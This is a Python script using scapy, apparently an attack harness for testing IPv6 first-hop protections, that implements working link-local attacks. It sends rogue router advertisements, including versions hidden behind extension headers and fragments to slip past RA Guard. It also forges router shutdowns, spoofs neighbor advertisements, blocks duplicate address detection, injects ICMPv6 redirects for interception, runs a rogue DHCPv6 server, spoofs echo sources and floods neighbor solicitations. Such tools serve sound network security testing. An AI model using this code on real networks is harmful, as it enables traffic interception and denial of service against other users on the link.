#!/usr/bin/python3
"""Attacks by IPv6. Prints "ready" before its first frame, "answered" where it answered somebody, "sent N" once it did its part.

    attack6.py ra LINK                          router advertisements of its own
    attack6.py ra-hop-by-hop LINK               the same behind a hop-by-hop header
    attack6.py ra-destination LINK              … behind destination options
    attack6.py ra-fragment LINK                 … in fragments, the first of which has destination options only
    attack6.py ra-end LINK ROUTER               the router's lifetime is 0, in its name
    attack6.py na LINK TARGET                   claims an address of another's
    attack6.py dad LINK                         answers every duplicate address detection until it is ended
    attack6.py redirect LINK ROUTER VICTIM VICTIM-MAC DESTINATION   a better first hop, in the router's name
    attack6.py dhcp-server LINK ADDRESS         answers every SOLICIT and REQUEST until it is ended
    attack6.py echo LINK SOURCE TARGET MAC         echo requests from an address of another's
    attack6.py many LINK COUNT PREFIX           detections of ever new addresses of its own
"""
import logging
import random
import socket
import sys
import time

logging.getLogger("scapy").setLevel(logging.ERROR)
sys.dont_write_bytecode = True
from scapy.all import (  # noqa: E402
    DHCP6_Advertise,
    DHCP6_Reply,
    DHCP6_Request,
    DHCP6_Solicit,
    DHCP6OptClientId,
    DHCP6OptIA_NA,
    DHCP6OptIAAddress,
    DHCP6OptServerId,
    DUID_LL,
    UDP,
    Ether,
    ICMPv6EchoRequest,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    PadN,
    conf,
    get_if_hwaddr,
    in6_getnsma,
    inet_pton,
    sniff,
)

from sending import sender  # noqa: E402

conf.verb = 0
name, link = sys.argv[1:3]
args = sys.argv[3:]
mac = get_if_hwaddr(link)
b = bytes.fromhex(mac.replace(":", ""))
own = "fe80::%x:%x:%x:%x" % ((b[0] ^ 2) << 8 | b[1], b[2] << 8 | 0xFF, 0xFE00 | b[3], b[4] << 8 | b[5])
s = conf.L2socket(iface=link)
send = sender(s)
ALL = "33:33:00:00:00:01"



def to_all(source=own, **more):
    return Ether(src=mac, dst=ALL) / IPv6(src=source, dst="ff02::1", hlim=255, **more)


def advertisement():
    return (
        ICMPv6ND_RA(routerlifetime=1800, prf=1)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64, L=1, A=1)
        / ICMPv6NDOptSrcLLAddr(lladdr=mac)
    )


def pad(length):
    return PadN(optdata=bytes(length - 2))


def fragments():
    """The advertisement's own header is in the second fragment."""
    whole = IPv6(src=own, dst="ff02::1", hlim=255) / IPv6ExtHdrDestOpt(options=[pad(62)]) / advertisement()
    raw = bytes(whole)[40:]
    cut, number = 64, random.getrandbits(32)
    for offset, part, m in ((0, raw[:cut], 1), (cut // 8, raw[cut:], 0)):
        yield to_all() / IPv6ExtHdrFragment(nh=60, offset=offset, m=m, id=number) / part


def listen(rule, answer):
    """Answers until it is ended. It is ready when it hears, not before."""

    def each(frame):
        if frame[Ether].src == mac:
            return
        for made in answer(frame):
            s.send(made)
            print("answered", flush=True)

    sniff(iface=link, filter=rule, prn=each, store=False, started_callback=lambda: print("ready", flush=True))


def claim(target):
    na = ICMPv6ND_NA(R=0, S=0, O=1, tgt=target) / ICMPv6NDOptDstLLAddr(lladdr=mac)
    return to_all() / na


def detected(frame):
    if ICMPv6ND_NS in frame and frame[IPv6].src == "::":
        yield claim(frame[ICMPv6ND_NS].tgt)


def serve(frame):
    kinds = {DHCP6_Solicit: DHCP6_Advertise, DHCP6_Request: DHCP6_Reply}
    for asked, answer in kinds.items():
        if asked in frame:
            ia = DHCP6OptIA_NA(
                iaid=frame[DHCP6OptIA_NA].iaid,
                ianaopts=[DHCP6OptIAAddress(addr=args[0], preflft=600, validlft=600)],
            )
            yield (
                Ether(src=mac, dst=frame[Ether].src)
                / IPv6(src=own, dst=frame[IPv6].src)
                / UDP(sport=547, dport=546)
                / answer(trid=frame[asked].trid)
                / DHCP6OptServerId(duid=DUID_LL(lladdr=mac))
                / DHCP6OptClientId(duid=frame[DHCP6OptClientId].duid)
                / ia
            )


def many(count, prefix):
    print("ready", flush=True)
    for i in range(count):
        target = "%sbad:%x:%x" % (prefix, i >> 16, i & 0xFFFF)
        group = in6_getnsma(inet_pton(socket.AF_INET6, target))
        to = "33:33:" + ":".join("%02x" % x for x in group[12:])
        source = {"src": "::", "dst": socket.inet_ntop(socket.AF_INET6, group)}
        s.send(Ether(src=mac, dst=to) / IPv6(hlim=255, **source) / ICMPv6ND_NS(tgt=target))
        time.sleep(0.01)
    print("sent", count, flush=True)


if name == "ra":
    send(to_all() / advertisement())
elif name == "ra-hop-by-hop":
    send(to_all() / IPv6ExtHdrHopByHop(options=[pad(6)]) / advertisement())
elif name == "ra-destination":
    send(to_all() / IPv6ExtHdrDestOpt(options=[pad(6)]) / advertisement())
elif name == "ra-fragment":
    send(*fragments())
elif name == "ra-end":
    send(to_all(args[0]) / ICMPv6ND_RA(routerlifetime=0) / ICMPv6NDOptSrcLLAddr(lladdr=mac))
elif name == "na":
    send(claim(args[0]))
elif name == "dad":
    listen("icmp6", detected)
elif name == "redirect":
    router, victim, victim_mac, destination = args
    quoted = IPv6(src=victim, dst=destination) / ICMPv6EchoRequest(data=b"12345678")
    redirect = ICMPv6ND_Redirect(tgt=own, dst=destination) / ICMPv6NDOptDstLLAddr(lladdr=mac)
    option = bytes([4, (8 + len(bytes(quoted)) + 7) // 8]) + bytes(6) + bytes(quoted)
    option += bytes(-len(option) % 8)
    send(Ether(src=mac, dst=victim_mac) / IPv6(src=router, dst=victim, hlim=255) / redirect / option)
elif name == "dhcp-server":
    listen("udp port 547", serve)
elif name == "echo":
    send(Ether(src=mac, dst=args[2]) / IPv6(src=args[0], dst=args[1]) / ICMPv6EchoRequest(data=b"forged"))
elif name == "many":
    many(int(args[0]), args[1])
